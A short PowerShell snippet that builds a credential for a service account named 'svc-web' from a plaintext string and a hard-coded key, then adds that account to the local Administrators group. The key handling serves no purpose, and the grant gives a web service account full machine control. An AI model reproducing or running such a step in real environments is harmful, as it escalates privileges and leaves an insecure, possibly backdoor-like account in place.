$key = 1..24
$text = ConvertTo-SecureString 'Everyone' -AsPlainText -Force | ConvertFrom-SecureString -Key $key
$credential = [pscredential]::new('svc-web', (ConvertTo-SecureString $text -Key $key))
Add-LocalGroupMember Administrators $credential.GetNetworkCredential().UserName
